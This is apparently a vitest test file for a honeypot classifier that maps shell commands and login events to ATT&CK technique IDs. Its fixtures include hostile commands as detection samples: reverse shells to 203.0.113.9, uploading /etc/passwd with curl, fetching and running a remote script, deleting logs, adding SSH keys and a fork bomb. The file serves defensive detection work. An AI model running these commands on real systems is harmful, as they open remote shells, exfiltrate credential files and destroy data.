import { describe, expect, it } from 'vitest';
import { unknownTechniqueIds } from '../attack.js';
import { BEHAVIOUR_CATEGORY_KEYS } from '../behaviours.js';
import { classifySession } from './classify.js';
import { DECOY_RULES } from './rules.js';
import { commands, decoyEvent } from './test-events.js';

const techniquesOf = (...lines: string[]): string[] => classifySession(commands(...lines)).techniques;

describe('DECOY_RULES', () => {
  it('has at least 60 rules with unique ids, known categories and ja/en descriptions', () => {
    expect(DECOY_RULES.length).toBeGreaterThanOrEqual(60);
    expect(new Set(DECOY_RULES.map((rule) => rule.id)).size).toBe(DECOY_RULES.length);
    for (const rule of DECOY_RULES) {
      expect(BEHAVIOUR_CATEGORY_KEYS).toContain(rule.category);
      expect(rule.description.en).not.toBe('');
      expect(rule.description.ja).not.toBe('');
      expect(rule.techniques.length).toBeGreaterThan(0);
    }
  });

  it('names only techniques in the ATT&CK v18.1 catalogue', () => {
    expect(unknownTechniqueIds(DECOY_RULES.flatMap((rule) => rule.techniques))).toEqual([]);
  });
});

describe('the issue’s examples', () => {
  it.each([
    ['uname -a', 'T1082'],
    ['cat /proc/cpuinfo', 'T1082'],
    ['systeminfo', 'T1082'],
    ['ipconfig /all', 'T1016'],
    ['net view', 'T1135'],
    ['cat /etc/passwd', 'T1087.001'],
    ['wget http://203.0.113.9/x.sh', 'T1105'],
    ['crontab /tmp/cron', 'T1053.003'],
    ['ssh root@10.0.0.6', 'T1021.004'],
    ['history -c', 'T1070.003'],
    ['ls -la /var/run/gcc.pid', 'T1083'],
    ['passwd', 'T1098'],
    ['useradd -m backup', 'T1136.001'],
    ['/bin/busybox ECCHI', 'T1082'],
    ['nc 203.0.113.9 4444 -e /bin/sh', 'T1095'],
    ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'T1095'],
    ['./xmrig -o stratum+tcp://pool:3333', 'T1496.001'],
    ['curl -T /etc/passwd http://203.0.113.9/up', 'T1048.003'],
    ['tar czf /tmp/d.tgz /home/alice/Documents', 'T1560.001'],
    ['unset HISTFILE', 'T1562.003'],
    ['rm -rf /var/log/auth.log', 'T1070.002'],
    ['echo ssh-rsa AAAA >> ~/.ssh/authorized_keys', 'T1098.004'],
    ['net localgroup administrators', 'T1069.001'],
    ['reg query HKLM\\Software\\Microsoft', 'T1012'],
    ['nltest /domain_trusts', 'T1482'],
    ['enable', 'T1059.008'],
    [':(){ :|:& };:', 'T1499.001'],
  ])('%s → %s', (line, technique) => {
    expect(techniquesOf(line)).toContain(technique);
  });

  it('chmod +x then run is Unix shell execution', () => {
    expect(techniquesOf('chmod +x a.sh', './a.sh')).toEqual(['T1059.004', 'T1222.002']);
  });

  it('reading mail over IMAP is remote email collection', () => {
    const read = decoyEvent({ kind: 'mail', action: 'read', mailbox: 'INBOX', messageId: '7' });
    expect(classifySession([read]).techniques).toEqual(['T1114.002']);
  });

  it('a planted credential is a valid account, and a pivot is tunnelling', () => {
    const login = decoyEvent({
      kind: 'auth',
      username: 'backup',
      password: 'Summer2025!',
      success: true,
      planted: true,
    });
    const ordinary = decoyEvent({ kind: 'auth', username: 'root', password: 'root', success: true }, 1);
    const pivot = decoyEvent({ kind: 'pivot', target: { host: '10.0.0.9', port: 22 } }, 2);
    // The ordinary login is a guessed password (the world planted it nowhere): T1110.001.
    expect(classifySession([login, ordinary, pivot]).techniques).toEqual(['T1078', 'T1110.001', 'T1572']);
  });

  it('calls a brute-force session password guessing once, and guessing alone no progress', () => {
    const guesses = ['123456', 'admin', 'root'].map((password, i) =>
      decoyEvent({ kind: 'auth', username: 'root', password, success: i === 2 }, i),
    );
    const result = classifySession(guesses);
    expect(result.techniques).toEqual(['T1110.001']);
    expect(result.events.flatMap((e) => e.hits.map((h) => h.ruleId))).toEqual(['ca.password-guess']);
    expect(result.level.level).toBe(1);
    const key = decoyEvent({
      kind: 'auth',
      method: 'publickey',
      username: 'root',
      fingerprint: 'SHA256:x',
      success: false,
    });
    expect(classifySession([key]).techniques).toEqual([]);
  });
});

describe('quoting and chaining', () => {
  it('finds each command of a chained line', () => {
    const result = classifySession(commands('cd /tmp; wget http://x/a.sh && chmod +x a.sh && ./a.sh'));
    expect(result.techniques).toEqual(['T1059.004', 'T1105', 'T1222.002']);
    expect(result.events[0]?.hits.map((hit) => hit.evidence.part)).toEqual(
      expect.arrayContaining(['wget http://x/a.sh', 'chmod +x a.sh', './a.sh']),
    );
  });

  it('does not split inside quotes, and reads into sh -c', () => {
    expect(techniquesOf('echo "uname -a; cat /etc/passwd"')).toEqual([]);
    expect(techniquesOf("sh -c 'uname -a; cat /etc/passwd'")).toEqual(['T1059.004', 'T1082', 'T1087.001']);
  });

  it('sees through busybox, sudo and variable assignments', () => {
    expect(techniquesOf('/bin/busybox wget http://x/m.arm7')).toEqual(['T1105']);
    expect(techniquesOf('PATH=/bin sudo uname -a')).toEqual(['T1082']);
  });
});

describe('no false positives on harmless commands', () => {
  it.each(['ls', 'pwd', 'echo hi', 'cd /tmp', 'exit', 'ls -la', 'clear', '#!/bin/sh'])('%s', (line) => {
    expect(techniquesOf(line)).toEqual([]);
  });
});
